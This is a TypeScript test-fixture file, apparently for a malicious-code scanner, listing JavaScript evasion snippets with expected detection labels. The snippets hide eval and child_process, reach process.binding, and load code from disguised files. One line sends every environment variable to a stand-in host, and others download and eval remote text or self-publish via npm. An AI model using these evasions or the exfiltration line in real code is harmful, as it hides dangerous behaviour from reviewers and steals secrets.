import { BINDING } from './evasion.js';
import type { Evasion } from './evasion.js';

/** Ways to `eval` that do not call it by its name. */
export const FOLLOWED_EVALUATION: readonly Evasion[] = [
  ['static field', 'class A { static e = eval } A.e(t)', 'dynamic-code'],
  ['private field', 'class A { #e = eval; go() { this.#e(t) } } new A().go()', 'dynamic-code'],
  ['field', 'class A { e = eval } new A().e(t)', 'dynamic-code'],
  ['thrown', 'try { throw eval } catch (f) { f(t) }', 'dynamic-code'],
  ['yielded', 'function* g() { yield eval } g().next().value(t)', 'dynamic-code'],
  ['descriptor', 'Object.getOwnPropertyDescriptor(globalThis, "eval").value(t)', 'dynamic-code'],
  ['bind', 'eval.bind(null, t)()', 'dynamic-code'],
  ['window of the document', 'document.defaultView.eval(t)', 'dynamic-code'],
  ['content window', 'document.querySelector("iframe").contentWindow.eval(t)', 'dynamic-code'],
];

/** Ways to the Function constructor. */
export const FOLLOWED_CONSTRUCTOR: readonly Evasion[] = [
  ['arrow', '(() => {}).constructor(t)()', 'function-constructor or dynamic-code'],
  ['class extends', 'class F extends Function {} new F("return 1")()', 'dynamic-code'],
  ['super call', 'new (class extends Function { constructor() { super("return 1") } })()', 'dynamic-code'],
  ['Function.bind', 'Function.bind(null, t)()()', 'dynamic-code'],
  ['descriptor', 'Object.getOwnPropertyDescriptor(Function.prototype, "constructor").value("return 1")()', 'kept'],
  ['bound method', 'const f = [].map.constructor.bind(null, "return 1"); f()()', 'kept'],
];

/** Ways to load a module that starts programs or threads. */
export const FOLLOWED_MODULES: readonly Evasion[] = [
  ['list', '[require][0]("child_process").exec("")', 'child-process'],
  ['map', '["child_process"].map(require)[0].exec("")', 'child-process or computed-global or computed-import or computed-members-import'],
  ['then', 'Promise.resolve("child_process").then(require)', 'child-process or computed-global or computed-import or computed-members-import'],
  ['timer', 'setTimeout(require, 0, "child_process")', 'child-process or computed-global or computed-import or computed-members-import'],
  ['bind', 'require.bind(null, "child_process")().exec("")', 'child-process or computed-global or computed-import or computed-members-import'],
  ['assigned', 'const o = {}; o.r = require; o.r("child_process")', 'child-process or computed-global or computed-import or computed-members-import'],
  ['parent', 'module.parent.require("child_process")', 'child-process'],
  ['passed in an object', 'function f({ r }) { r("child_process") } f({ r: require })', 'child-process or computed-global or computed-import or computed-members-import'],
  ['class field', 'class A { r = require; go() { this.r("child_process") } } new A().go()', 'child-process or computed-global or computed-import or computed-members-import'],
];

/** Ways into the engine. */
export const FOLLOWED_ENGINE: readonly Evasion[] = [
  ['Object.create', 'Object.create(process).binding("spawn_sync")', 'engine-internals critical'],
  ['spread', '({ ...process }).binding("spawn_sync")', 'engine-internals critical'],
  ['list', '[process][0].binding("spawn_sync")', 'engine-internals critical'],
  ['field', 'class A { p = process; go() { this.p.binding("spawn_sync") } } new A().go()', 'engine-internals critical'],
  ['for of', 'for (const p of [process]) p.binding("spawn_sync")', 'engine-internals critical'],
  ['then', 'Promise.resolve(process).then((p) => p.binding("spawn_sync"))', 'engine-internals critical'],
  ['assigned member', 'const o = {}; o.p = process; o.p.binding("spawn_sync")', 'engine-internals critical'],
];

/** Ways to run code in a page. */
export const FOLLOWED_BROWSER: readonly Evasion[] = [
  ['setAttribute', 'const s = document.createElement("script"); s.setAttribute("src", "https://example.invalid/x.js")', 'remote-code'],
  ['Object.assign', 'Object.assign(document.createElement("script"), { src: "https://example.invalid/x.js" })', 'remote-code'],
  ['createElementNS', 'const s = document.createElementNS("http://www.w3.org/1999/xhtml", "script"); s.src = "https://example.invalid/x.js"', 'remote-code'],
  ['text of a script', 'const s = document.createElement("script"); s.textContent = t', 'dynamic-code'],
  ['attribute handler', 'el.setAttribute("onclick", t)', 'kept or dynamic-code or string-timer'],
  ['service worker', 'navigator.serviceWorker.register("https://example.invalid/sw.js")', 'kept or remote-code'],
  ['worklet', 'CSS.paintWorklet.addModule("https://example.invalid/x.js")', 'kept or remote-code'],
  ['timer of a String', 'setTimeout(String(t))', 'string-timer'],
];

/** Private data on its way out, text on its way to be run, and addresses that do not look like it. */
export const FOLLOWED_FLOWS: readonly Evasion[] = [
  ['environment entries', 'for (const [k, v] of Object.entries(process.env)) fetch("https://example.invalid/?" + k + v)', 'data-leak critical'],
  ['downloaded', 'fetch("https://example.invalid").then((r) => r.text()).then(eval)', 'kept or remote-code'],
  ['downloaded, XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("GET", "https://example.invalid"); x.onload = () => eval(x.responseText); x.send()', 'kept or remote-code'],
  ['publishes by arguments', 'require("child_process").spawn("npm", ["publish"])', 'self-spreading'],
];

/** Text that parsers and engines could read in different ways. */
export const FOLLOWED_PARSING: readonly Evasion[] = [
  ['module read as a script', { 'index.js': 'host.open("panel.html")', 'panel.html': '<script type="module" src="p.js"></script>', 'p.js': `var a = 1, b = 2; a<!--b; ${BINDING}` }, 'engine-internals critical or kept'],
  ['script in .mjs', { 'index.js': 'host.open("panel.html")', 'panel.html': '<script src="p.mjs"></script>', 'p.mjs': `globalThis.await = 1; await /1; ${BINDING}; 1/g` }, 'engine-internals critical or kept'],
];

/** Scripts in places of a page where nobody looks. */
export const FOLLOWED_PAGES: readonly Evasion[] = [
  ['xht', { 'index.js': 'host.open("a.xht")', 'a.xht': `<html xmlns="http://www.w3.org/1999/xhtml"><script>${BINDING}</script></html>` }, 'engine-internals critical'],
  ['xml', { 'index.js': 'host.open("a.xml")', 'a.xml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>${BINDING}</script></html>` }, 'engine-internals critical'],
  ['shtml', { 'index.js': 'host.open("a.shtml")', 'a.shtml': `<script>${BINDING}</script>` }, 'engine-internals critical'],
];

/** Code in files that nobody takes for it, and manifests that run it. */
export const FOLLOWED_PACKAGES: readonly Evasion[] = [
  ['main is a picture', { 'icon.png': BINDING }, 'kept', { entry_points: ['icon.png'] }],
  ['main is a text', { 'code.txt': BINDING }, 'engine-internals critical', { entry_points: ['code.txt'] }],
  ['main is a style', { 'code.css': BINDING }, 'engine-internals critical', { entry_points: ['code.css'] }],
  ['main is a folder with a package.json', { 'lib/package.json': '{"main":"x.bin"}', 'lib/x.bin': BINDING, 'index.js': '' }, 'engine-internals critical', { entry_points: ['lib'] }],
  ['main with dots', { 'lib/a.bin': BINDING }, 'engine-internals critical', { entry_points: ['./lib/../lib/a.bin'] }],
  ['exports', { 'package.json': '{"main":"index.js","exports":"./x.bin"}', 'index.js': '', 'x.bin': BINDING }, 'kept', { entry_points: ['index.js'], original: { main: 'index.js', exports: './x.bin' } }],
  ['bin', { 'package.json': '{"main":"index.js","bin":{"x":"tool"}}', 'index.js': '', tool: BINDING }, 'kept', { entry_points: ['index.js'], original: { main: 'index.js', bin: { x: 'tool' } } }],
  ['browser map', { 'package.json': '{"browser":{"./a.js":"./x.bin"}}', 'index.js': 'require("./a.js")', 'a.js': '', 'x.bin': BINDING }, 'kept', { entry_points: ['index.js'], original: { browser: { './a.js': './x.bin' } } }],
  ['imports map', { 'package.json': '{"imports":{"#x":"./x.bin"}}', 'index.js': 'require("#x")', 'x.bin': BINDING }, 'engine-internals critical', { entry_points: ['index.js'], original: { imports: { '#x': './x.bin' } } }],
  ['hashbang of another engine', { 'index.js': 'host.run("tool")', tool: `#!/usr/bin/env bun\n${BINDING}` }, 'kept or engine-internals'],
];

/** Code that is loaded and looks as if it were not: it must count in full. */
export const FOLLOWED_REACH: readonly Evasion[] = [
  ['mapped', { 'index.js': '["./hid" + "den"].map(require)', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['bound', { 'index.js': 'require.bind(null, "./hid" + "den")()', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['timer', { 'index.js': 'setTimeout(require, 0, "./hid" + "den")', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['list of require', { 'index.js': '[require][0]("./hid" + "den")', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['then require', { 'index.js': 'Promise.resolve("./hid" + "den").then(require)', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['field', { 'index.js': 'class A { r = require; go() { this.r("./hid" + "den") } } new A().go()', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['replace', { 'index.js': '"./hid-den".replace("-", "").replace(/.+/, require)', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['assigned', { 'index.js': 'const o = {}; o.r = require; o.r("./hid" + "den")', 'hidden.js': BINDING }, 'engine-internals critical'],
  ['odd extension', { 'index.js': 'require(__dirname + "/x.bin")', 'x.bin': BINDING }, 'engine-internals critical'],
  ['odd extension, path.join', { 'index.js': 'require(require("path").join(__dirname, "x.bin"))', 'x.bin': BINDING }, 'engine-internals critical'],
  ['odd extension, resolved', { 'index.js': 'require(require.resolve("./x.bin"))', 'x.bin': BINDING }, 'engine-internals critical'],
  ['odd extension, worker', { 'index.js': 'new (require("worker_threads").Worker)("./x.bin")', 'x.bin': BINDING }, 'engine-internals critical'],
  ['odd extension, mapped', { 'index.js': '["./x.bin"].map(require)', 'x.bin': BINDING }, 'engine-internals critical'],
  ['odd extension, URL', { 'index.js': 'import(new URL("./x.bin", import.meta.url))', 'x.bin': BINDING }, 'engine-internals critical'],
  ['declaration of types', { 'index.js': '["./x.d.ts"].map(require)', 'x.d.ts': BINDING }, 'computed-global or computed-import or computed-members'],
];
